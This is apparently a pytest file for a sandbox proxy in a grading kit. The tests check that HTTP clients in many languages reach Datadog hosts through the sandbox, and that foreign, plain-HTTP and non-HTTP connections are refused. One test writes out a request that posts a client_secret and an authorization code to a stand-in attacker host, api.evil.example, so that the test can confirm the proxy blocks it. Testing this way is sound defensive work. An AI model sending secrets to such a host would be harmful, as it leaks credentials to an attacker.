"""Real clients, unchanged, meet the sandbox under Datadog's own names."""

from __future__ import annotations

from itertools import cycle
from typing import TYPE_CHECKING

import pytest
from support.front import SECRET, calling, clean_environment, form, recorded, scene, told

from ddoauth_kit.grading.front.records import Treatment

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from support.front import Scene, Shop

    from ddoauth_kit.sandbox import Sandbox

PYTHON = ("requests", "httpx", "urllib")
NODE = tuple(f"{way}@{v}" for way in ("fetch", "https", "axios") for v in ("", "22", "24"))
OTHERS = tuple(
    pytest.param(name, marks=pytest.mark.runtimes) for name in ("java", "go", "ruby", "php")
)
CLIENTS = (*PYTHON, *NODE, "curl", *OTHERS)
USER = "/api/v2/current_user"
# Each client calls another host than the one before it.
HOSTS = cycle((("api.datadoghq.com", "us1"), ("api.us3.datadoghq.com", "us3")))


@pytest.mark.parametrize("client", CLIENTS)
def test_datadogs_names_lead_to_the_sandbox(
    behind: Scene, npm_folder: Path, nodes: Callable[[str], str], client: str
) -> None:
    """A call to Datadog's own host arrives at the sandbox's site of that host."""
    environment = behind.environment() | {"NODE_CLIENTS": str(npm_folder)}
    host, site = next(HOSTS)
    said = behind.run(
        *calling(client, nodes=nodes), f"https://{host}{USER}", environment=environment
    )
    assert said.endswith("401"), said
    (seen,) = recorded(behind.records)
    assert (seen.treatment, seen.host, seen.site, seen.role) == ("forwarded", host, site, "api")
    assert (seen.method, seen.path, seen.status) == ("GET", USER, 401)
    assert (behind.sandbox.journal[-1].site, behind.sandbox.journal[-1].path) == (site, USER)


@pytest.mark.parametrize("client", CLIENTS)
def test_a_secret_for_another_host_is_stopped(
    behind: Scene, npm_folder: Path, nodes: Callable[[str], str], client: str
) -> None:
    """The record names the host and the fields; the value is nowhere."""
    environment = behind.environment() | {"NODE_CLIENTS": str(npm_folder)}
    command = calling(client, nodes=nodes)
    pairs = form(client, f"client_secret={SECRET}", "grant_type=authorization_code")
    said = behind.run(
        *command, "https://api.evil.example/token?code=c0de", *pairs, environment=environment
    )
    assert said.endswith("403"), said
    (seen,) = recorded(behind.records)
    assert (seen.treatment, seen.host, seen.reason) == (
        "refused",
        "api.evil.example",
        "foreign_host",
    )
    assert (seen.method, seen.path) == ("POST", "/token")
    assert seen.query_fields == ("code",)
    assert seen.body_fields == ("client_secret", "grant_type")
    assert "--allow api.evil.example" in seen.line
    assert SECRET not in told(behind.records)
    assert "c0de" not in told(behind.records)


@pytest.mark.parametrize("client", CLIENTS)
def test_an_allowed_host_is_reached_unread(
    upstream: Sandbox,
    shop: Shop,
    npm_folder: Path,
    nodes: Callable[[str], str],
    client: str,
) -> None:
    """Its certificate of another authority still verifies, through the proxy set before."""
    before = clean_environment() | dict.fromkeys(
        ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS"),
        str(shop.ca_file),
    )
    before["HTTPS_PROXY"] = shop.proxy
    with scene(upstream, before, allow=["shop.example"], parent_proxy=shop.proxy) as made:
        environment = made.environment(before) | {"NODE_CLIENTS": str(npm_folder)}
        if client == "java":
            environment = made.environment(before | {"JAVA_TOOL_OPTIONS": shop.java_option})
        command = calling(client, nodes=nodes)
        said = made.run(*command, "https://shop.example/", environment=environment)
        assert said.endswith("200"), said
        (seen,) = recorded(made.records)
        assert (seen.treatment, seen.host, seen.path) == (Treatment.TUNNELLED, "shop.example", "")
    assert shop.asked[-1].startswith("CONNECT shop.example:443 HTTP/1.1\r\n")
    assert "Proxy-Authorization: Basic YWRhOndvcmQ=\r\n" in shop.asked[-1]


@pytest.mark.parametrize("client", ["requests", "httpx", "curl", "https@", "fetch@24"])
def test_this_machine_is_left_alone(
    behind: Scene, nodes: Callable[[str], str], client: str
) -> None:
    """A neighbour on loopback is called directly, and the front sees nothing of it."""
    command = calling(client, nodes=nodes)
    assert behind.run(*command, f"{behind.sandbox.base_url}/us1/api{USER}").endswith("401")
    assert behind.records == []


@pytest.mark.parametrize("version", ["", "22", "24"])
def test_a_node_program_that_insists_on_http2_is_named(
    behind: Scene, nodes: Callable[[str], str], version: str
) -> None:
    """The record says that the client spoke HTTP/2, and what to do."""
    command = calling(f"http2@{version}", nodes=nodes)
    said = behind.run(*command, "https://api.datadoghq.com/")
    assert said == "closed" or said.startswith("ERR_"), said
    (seen,) = recorded(behind.records)
    assert (seen.reason, seen.host) == ("http2_only", "api.datadoghq.com")


@pytest.mark.parametrize("version", ["", "22", "24"])
def test_a_node_connection_to_another_machine_meets_the_front(
    behind: Scene, nodes: Callable[[str], str], version: str
) -> None:
    """The advice for a database driver is to allow its host; nothing is sent there."""
    command = calling(f"net@{version}", nodes=nodes)
    assert behind.run(*command, "tcp://db.example:5432") == "closed"
    (seen,) = recorded(behind.records)
    assert (seen.reason, seen.host, seen.port) == ("no_http", "db.example", 5432)
    assert seen.line.endswith("--allow db.example.")


def test_a_node_program_by_plain_http_is_told_to_use_https(
    behind: Scene, nodes: Callable[[str], str]
) -> None:
    """Plain http to Datadog's host never reaches the sandbox."""
    before = len(behind.sandbox.journal)
    said = behind.run(*calling("https@", nodes=nodes), "http://api.datadoghq.com/")
    assert said == "403"
    assert [seen.reason for seen in recorded(behind.records)] == ["plain_http"]
    assert len(behind.sandbox.journal) == before
